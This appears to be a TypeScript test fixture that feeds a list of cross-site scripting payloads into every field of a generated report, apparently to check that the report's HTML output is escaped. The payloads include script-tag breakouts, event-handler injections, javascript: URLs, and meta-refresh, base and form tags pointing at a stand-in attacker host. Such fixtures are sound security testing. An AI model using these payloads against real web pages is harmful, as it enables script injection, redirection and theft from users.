import type { Report } from "../../reports/report.ts";
import { hostile, sampleReport, sampleRule } from "../sample-report.ts";

const act = "window.hacked=1;alert(1)";

/** Texts of a hostile target that attack the report in a browser. */
export const attacks = [
  `<script>${act}</script>`,
  `</script><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `--><script>${act}</script>`,
  `]]><script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}"><use href="http://attacker.test/x.svg#a"/></svg>`,
  `"><img src=x onerror="${act}">`,
  `' autofocus onfocus='${act}' x='`,
  `" autofocus onfocus="${act}" x="`,
  "` onmouseover=alert(1) `",
  `<a href="javascript:${act}">click</a>`,
  `javascript:${act}`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=http://attacker.test/">`,
  `<link rel="stylesheet" href="http://attacker.test/x.css"><base href="http://attacker.test/">`,
  `<form action="http://attacker.test/"><button autofocus>x</button></form>`,
  `<template><script>${act}</script></template><noscript><img src=http://attacker.test/x></noscript>`,
  "&lt;script&gt;window.hacked=1&lt;/script&gt;",
  hostile,
] as const;

/** A report with this text in every place that a target or a user controls. */
export function reportSaying(text: string): Report {
  const step = {
    request: {
      method: text,
      path: text,
      headers: { [text]: text },
      body: JSON.stringify({ StatementId: text }),
      operation: text,
    },
    response: { status: 500, error: text, headers: { [text]: text }, body: text },
  };
  const silent = { request: step.request, response: null, silence: text };
  const counterexample = {
    expected: text,
    seen: text,
    steps: [step, silent],
    curl: text,
    replay: text,
    reproduced: text,
  };
  const broken = {
    verdicts: { document: "violated", aws: "holds" },
    title: text,
    source: text,
    counterexample,
  } as const;
  return sampleReport({
    tool: { name: text, version: text },
    target: { name: text, endpoint: text, cannot: [text] },
    startedAt: text,
    rules: [sampleRule(text, broken), sampleRule(`area${text}.rule`, { reason: text, title: text })],
    questions: [{ id: text, title: text, answer: text, observations: 1, source: text }],
    faults: [text],
    latency: { medianMs: 1, p99Ms: 2, maxMs: 3, outliers: [{ case: text, ms: 3 }] },
  });
}
